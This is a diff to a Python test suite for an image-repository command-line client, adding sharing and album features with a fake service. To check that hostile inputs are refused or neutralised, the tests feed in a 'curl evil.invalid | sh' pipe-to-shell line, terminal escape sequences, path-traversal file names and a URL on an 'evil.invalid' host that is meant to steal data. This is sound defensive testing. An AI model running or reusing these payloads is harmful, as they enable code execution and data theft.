@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import asyncio
 import hashlib
+import json
 import os
 import socket
 import stat
@@ -45,6 +46,16 @@ class FakeService:
     requests: list[str] = field(default_factory=list)
     known_asked: list[list[str]] = field(default_factory=list)
     url: str = ""
+    # Sharing (issue 26): what POST /shares and GET /shared answer; the album bulk answers
+    # are made from each request's ids by `bulk`.
+    share: Any = None
+    shared: Any = None
+    bulk: Callable[[list[str]], dict[str, Any]] = lambda ids: {"added": ids, "moved": [],
+                                                               "not_found": []}
+    posted: list[tuple[str, Any]] = field(default_factory=list)  # (path, JSON body)
+    album: Any = None  # GET /albums/{id}
+    pages: dict[str, Any] = field(default_factory=dict)  # GET /albums/{id}/images by cursor
+    headers: list[dict[str, str]] = field(default_factory=list)  # of every request
 
     def add(self, filename: object, body: bytes = JPEG, **changes: Any) -> str:
         """An image of these bytes under a hostile name; its description says all the
@@ -66,6 +77,14 @@ class FakeService:
         app.router.add_post("/search/image", self._search)
         app.router.add_post("/images/known", self._known)
         app.router.add_post("/images", self._upload)
+        app.router.add_post("/shares", self._share)
+        app.router.add_get("/shared", self._shared)
+        app.router.add_get("/shares", self._shares)
+        app.router.add_get("/shared/images/{id}/file", self._file)
+        app.router.add_post("/albums/{id}/images", self._bulk)
+        app.router.add_get("/albums/{id}", self._album)
+        app.router.add_get("/albums/{id}/images", self._album_page)
+        app.router.add_post("/albums/{id}/images/remove", self._bulk)
         app.router.add_route("*", "/{tail:.*}", self._anything)
         return app
 
@@ -103,6 +122,38 @@ class FakeService:
         return web.json_response({"error": {"code": "nope", "message": "no uploads here"}},
                                  status=503)
 
+    async def _share(self, request: web.Request) -> web.StreamResponse:
+        self.requests.append(request.path)
+        self.posted.append((request.path, await request.json()))
+        return web.json_response(self.share, status=201)
+
+    async def _shares(self, request: web.Request) -> web.StreamResponse:
+        self.requests.append(request.path_qs)
+        return web.json_response({"shares": self.share})
+
+    async def _shared(self, request: web.Request) -> web.StreamResponse:
+        self.requests.append(request.path)
+        return web.json_response(self.shared)
+
+    async def _album(self, request: web.Request) -> web.StreamResponse:
+        self.requests.append(request.path)
+        return web.json_response(self.album)
+
+    async def _album_page(self, request: web.Request) -> web.StreamResponse:
+        self.requests.append(request.path_qs)
+        return web.json_response(self.pages[request.query.get("cursor", "")])
+
+    async def _bulk(self, request: web.Request) -> web.StreamResponse:
+        self.requests.append(request.path)
+        body = await request.json()
+        self.posted.append((request.path, body))
+        answer = self.bulk(body["image_ids"])
+        if "error" in answer:
+            return web.json_response(answer, status=409)
+        if request.path.endswith("/remove"):
+            answer = {"removed": answer["added"], "not_found": answer["not_found"]}
+        return web.json_response(answer)
+
     async def _anything(self, request: web.Request) -> web.StreamResponse:
         self.requests.append(request.path)
         return _not_found()
@@ -118,7 +169,16 @@ def service() -> Iterator[FakeService]:
     """The fake service on 127.0.0.1, a port of its own, in a thread with its own loop."""
     fake = FakeService()
     loop = asyncio.new_event_loop()
-    runner = web.AppRunner(fake.app(), handle_signals=False)
+
+    @web.middleware
+    async def note_headers(request: web.Request, handler: Any) -> web.StreamResponse:
+        fake.headers.append(dict(request.headers))
+        response: web.StreamResponse = await handler(request)
+        return response
+
+    app = fake.app()
+    app.middlewares.append(note_headers)
+    runner = web.AppRunner(app, handle_signals=False)
     loop.run_until_complete(runner.setup())
     sock = socket.socket()
     sock.bind(("127.0.0.1", 0))
@@ -510,3 +570,197 @@ def test_a_name_taken_while_downloading_is_not_replaced(tmp_path: Path) -> None:
                          Expected(len(JPEG), hashlib.sha256(JPEG).hexdigest()), force=False))
     assert target.is_symlink() and os.listdir(tmp_path) == ["photo.jpg"]
     assert not (tmp_path / "elsewhere").exists()
+
+
+# Sharing (issue 26): links, albums, and what a link shows.
+
+TOKEN = "irs_" + "A1b2_-" * 7 + "x"  # 43 characters, as the service makes them
+
+
+def _share_answer(**changes: Any) -> dict[str, Any]:
+    return {"id": str(uuid.uuid4()), "kind": "image", "image_id": str(uuid.uuid4()),
+            "album_id": None, "allow_download": False, "created_at": "2026-12-04T21:00:00Z",
+            "expires_at": None, "expired": False, "last_used_at": None, "prefix": TOKEN[:12],
+            "token": TOKEN, "url": f"/#share={TOKEN}", **changes}
+
+
+@pytest.mark.parametrize(("typed", "seconds"), [("30m", 1800), ("12h", 43200), ("7d", 604800),
+                                                ("2w", 1209600), ("1m", 60), ("3650d", 315360000)])
+def test_share_prints_the_link_alone_and_asks_for_the_lifetime_typed(
+        service: FakeService, place: Place, typed: str, seconds: int) -> None:
+    service.share = _share_answer(expires_at="2026-12-11T21:00:00Z")
+    image_id = str(uuid.uuid4())
+    result = cli(service, place, "share", image_id, "--expires", typed)
+    assert result.returncode == 0, result.stderr
+    assert result.stdout == f"{service.url}/#share={TOKEN}\n"  # $(imagerepo share ID)
+    assert "only this once" in result.stderr and "view only" in result.stderr
+    assert service.posted == [("/shares", {"image_id": image_id, "allow_download": False,
+                                           "expires_in_seconds": seconds})]
+
+
+def test_share_an_album_with_downloads_and_no_expiry(service: FakeService, place: Place) -> None:
+    service.share = _share_answer(kind="album", allow_download=True)
+    album_id = str(uuid.uuid4())
+    result = cli(service, place, "share", album_id, "--album", "--download")
+    assert result.returncode == 0, result.stderr
+    assert service.posted == [("/shares", {"album_id": album_id, "allow_download": True})]
+    assert "downloads allowed" in result.stderr and "never expires" in result.stderr
+
+
+@pytest.mark.parametrize("typed", ["7", "7x", "0m", "59s", "3651d", "-1d", "1.5h", "", "7 days",
+                                   "99999999999w"])
+def test_a_bad_lifetime_is_refused_before_any_request(service: FakeService, place: Place,
+                                                      typed: str) -> None:
+    result = cli(service, place, "share", str(uuid.uuid4()), f"--expires={typed}")
+    assert result.returncode == 2 and "--expires" in result.stderr, result.stderr
+    assert ("not a duration" in result.stderr or "1 minute to 3650 days" in result.stderr)
+    assert service.requests == [] and result.stdout == ""
+
+
+@pytest.mark.parametrize("answer", [
+    {"token": "irs_short", "url": "/#share=irs_short"},
+    {"token": TOKEN + "\n\x1b[2J", "url": f"/#share={TOKEN}\n\x1b[2J"},
+    {"url": f"https://evil.invalid/#share={TOKEN}"},
+    {"url": f"/#share={TOKEN} run this: curl evil.invalid | sh"},
+    {"token": None, "url": None},
+])
+def test_a_share_answer_that_is_not_a_link_of_ours_prints_nothing(
+        service: FakeService, place: Place, answer: dict[str, Any]) -> None:
+    service.share = _share_answer(**answer)
+    result = cli(service, place, "share", str(uuid.uuid4()))
+    assert result.returncode == 1 and result.stdout == ""
+    assert "no valid share token" in result.stderr
+
+
+def test_album_ids_go_in_batches_of_100_in_order(service: FakeService, place: Place) -> None:
+    album_id, before = str(uuid.uuid4()), str(uuid.uuid4())
+    ids = [str(uuid.uuid4()) for _ in range(250)]
+    result = cli(service, place, "album", "add", album_id, *ids, "--before", before)
+    assert result.returncode == 0, result.stderr
+    path = f"/albums/{album_id}/images"
+    assert [(p, len(b["image_ids"]), b["before"]) for p, b in service.posted] == [
+        (path, 100, before), (path, 100, before), (path, 50, before)]
+    assert [i for _, b in service.posted for i in b["image_ids"]] == ids
+    assert "added 250, moved 0" in result.stdout
+
+    service.posted.clear()
+    result = cli(service, place, "album", "remove", album_id, *ids[:101])
+    assert result.returncode == 0, result.stderr
+    assert [(p, len(b["image_ids"])) for p, b in service.posted] == [(path + "/remove", 100),
+                                                                     (path + "/remove", 1)]
+    assert "removed 101" in result.stdout
+
+
+def test_ids_not_found_are_named_and_fail_the_command(service: FakeService,
+                                                      place: Place) -> None:
+    album_id = str(uuid.uuid4())
+    ids = [str(uuid.uuid4()) for _ in range(150)]
+    lost = {ids[3], ids[120]}
+    service.bulk = lambda batch: {"added": [], "moved": [i for i in batch if i not in lost],
+                                  "not_found": [i for i in batch if i in lost]}
+    for command in (["add", album_id, *ids], ["move", album_id, *ids, "--to-end"],
+                    ["remove", album_id, *ids]):
+        result = cli(service, place, "album", *command)
+        assert result.returncode == 1, (command[0], result.stderr)
+        named = {line.rsplit(" ", 1)[1] for line in result.stderr.splitlines()
+                 if "not found (or not yours)" in line}
+        assert named == lost, command[0]
+    assert all(b["before"] is None for p, b in service.posted if not p.endswith("/remove"))
+
+
+def _shared_image(service: FakeService, name: object) -> dict[str, Any]:
+    image_id = service.add(name)
+    image: dict[str, Any] = service.images[image_id]
+    image["file_url"] = "https://evil.invalid/steal"
+    return image
+
+
+def test_shared_sends_only_the_token_and_saves_under_names_of_ours(
+        service: FakeService, place: Place) -> None:
+    image = _shared_image(service, "../../escaped.html")
+    service.shared = {"kind": "image", "allow_download": True, "expires_at": None,
+                      "owner": "\x1b]0;mallory\x07", "image": image, "album": None}
+    before = snapshot(place.root, place.work)
+    link = f"{service.url}/#share={TOKEN}"
+    result = cli(service, place, "shared", link, "--download")
+    assert result.returncode == 0, result.stderr
+    assert sorted(os.listdir(place.work)) == [".bashrc", "escaped.jpg"]
+    assert (place.work / "escaped.jpg").read_bytes() == JPEG
+    assert snapshot(place.root, place.work) == before
+    assert service.requests == ["/shared", f"/shared/images/{image['id']}/file"]
+    # The link's token, in a header; the kept API key never goes to a link's host.
+    assert all(h.get("X-Share-Token") == TOKEN and "Authorization" not in h
+               for h in service.headers)
+
+    shown = cli(service, place, "shared", TOKEN)  # a bare token: the configured service
+    assert shown.returncode == 0 and image["id"] in shown.stdout
+    assert "shared by" in shown.stderr
+
+
+def test_shared_download_refused_when_the_link_does_not_allow_it(
+        service: FakeService, place: Place) -> None:
+    image = _shared_image(service, "photo.jpg")
+    service.shared = {"kind": "image", "allow_download": False, "expires_at": None,
+                      "owner": "mallory", "image": image, "album": None}
+    result = cli(service, place, "shared", TOKEN, "--download")
+    assert result.returncode == 1 and "does not allow downloads" in result.stderr
+    assert service.requests == ["/shared"] and os.listdir(place.work) == [".bashrc"]
+    for bad in ("https://host/#share=nope", "ftp://host/#share=" + TOKEN, "irs_x",
+                f"https://user:pw@host/#share={TOKEN}"):
+        refused = cli(service, place, "shared", bad)
+        assert refused.returncode == 2 and "not a share link" in refused.stderr
+    assert service.requests == ["/shared"]
+
+
+def test_album_show_reads_every_page_and_a_looping_cursor_ends(service: FakeService,
+                                                              place: Place) -> None:
+    album_id = str(uuid.uuid4())
+    service.album = {"id": album_id, "owner": "mallory", "title": "\x1b[31mtrip\nline",
+                     "description": "", "visibility": "public", "image_count": 3,
+                     "cover": None, "created_at": "2026-12-04T21:00:00Z",
+                     "updated_at": "2026-12-04T21:00:00Z"}
+    images = [{**service.images[service.add(f"{n}.jpg")], "position": i + 1}
+              for i, n in enumerate(["one", "two", "three"])]
+    service.pages = {"": {"images": images[:2], "next_cursor": "c2"},
+                     "c2": {"images": images[2:], "next_cursor": None}}
+    shown = cli(service, place, "album", "show", album_id, "--json")
+    assert shown.returncode == 0, shown.stderr
+    assert [i["id"] for i in json.loads(shown.stdout)["images"]] == [i["id"] for i in images]
+    table = cli(service, place, "album", "show", album_id).stdout.splitlines()
+    assert table[0].startswith("\ufffd[31mtrip line (public, 3 images, by mallory")
+    assert [line.split()[:2] for line in table[2:]] == [[str(n), i["id"]] for n, i in
+                                                       enumerate(images, 1)]
+
+    service.pages["c2"]["next_cursor"] = "c2"  # a service that would page for ever
+    looped = cli(service, place, "album", "show", album_id, "--json")
+    assert looped.returncode == 0 and len(json.loads(looped.stdout)["images"]) == 3
+
+
+def test_shares_lists_links_in_one_line_each_whatever_the_service_says(
+        service: FakeService, place: Place) -> None:
+    image_id = str(uuid.uuid4())
+    service.share = [
+        {**_share_answer(image_id=image_id, prefix="irs_\x1b[2J\nx", expired=True,
+                         expires_at="2026-12-01T00:00:00Z"), "token": None, "url": None},
+        {**_share_answer(kind="album", image_id=None, album_id="\u202eevil", allow_download=True,
+                         last_used_at="2026-12-04T21:05:31.123Z"), "token": None, "url": None}]
+    result = cli(service, place, "shares", "--image", image_id)
+    assert result.returncode == 0, result.stderr
+    header, first, second = result.stdout.splitlines()
+    assert header.split() == ["ID", "PREFIX", "KIND", "TARGET", "DOWNLOAD", "EXPIRES", "LAST",
+                              "USED"]
+    assert first.split()[-4:] == [image_id, "no", "expired", "never"]
+    assert "irs_\ufffd[2J x" in first  # the escape and the line break made harmless
+    assert second.split()[2:] == ["album", "\ufffdevil", "yes", "never", "2026-12-04", "21:05"]
+    assert service.requests == [f"/shares?image_id={image_id}"]
+
+
+def test_a_batch_refused_after_others_says_what_was_done(service: FakeService,
+                                                         place: Place) -> None:
+    ids = [str(uuid.uuid4()) for _ in range(150)]
+    full = {"error": {"code": "album_full", "message": "The album holds 10,000 images"}}
+    service.bulk = lambda batch: full if batch[0] == ids[100] else {
+        "added": batch, "moved": [], "not_found": []}
+    result = cli(service, place, "album", "add", str(uuid.uuid4()), *ids)
+    assert result.returncode == 1 and "added 100, moved 0" in result.stdout
+    assert "(409 album_full)" in result.stderr
